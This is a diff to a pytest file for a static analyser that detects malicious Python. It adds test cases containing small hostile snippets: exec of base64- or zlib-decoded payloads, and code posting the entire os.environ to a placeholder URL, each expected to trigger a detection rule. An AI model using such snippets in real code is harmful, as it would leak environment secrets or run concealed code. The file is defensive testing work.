@@ -34,6 +34,7 @@ BENIGN_PY = {
     "aws-sdk-reads-its-own-credentials": fakes.BENIGN_AWS_SDK,
     "decode-without-exec-and-plain-exec": fakes.BENIGN_DECODE,
     "dotenv-loader": fakes.BENIGN_DOTENV,
+    "single-env-reads-and-requests": fakes.BENIGN_ENV_READS,
 }
 
 
@@ -47,6 +48,19 @@ def test_aliased_imports_and_dunder_import_are_resolved() -> None:
     assert [h.rule for h in analyze_python(src)] == ["exec-decoded"]
     src2 = "exec(__import__('zlib').decompress(b'x'))\n"
     assert [h.rule for h in analyze_python(src2, force=True)] == ["exec-decoded"]
+
+
+@pytest.mark.parametrize("src,rule", [
+    ("import zlib, base64\ncode = zlib.decompress(base64.b64decode(B)).decode()\nexec(compile(code, '<x>', 'exec'))\n",
+     "exec-decoded"),
+    ("import base64 as b\nexec(b.b64decode(B))\n", "exec-decoded"),
+    ("import os, requests\nrequests.post(U, json={k: v for k, v in os.environ.items()})\n", "env-dump"),
+    ("import os, requests\nrequests.post(U, json=dict(os.environ))\n", "env-dump"),
+    ("import os, json, urllib.request\nurllib.request.urlopen(U, data=json.dumps(dict(os.environ)).encode())\n",
+     "env-dump"),
+])
+def test_payload_variants_pass_the_gate_and_are_caught(src: str, rule: str) -> None:
+    assert rule in {h.rule for h in analyze_python(src)}
 
 
 def test_unparseable_source_still_gets_string_rules() -> None:
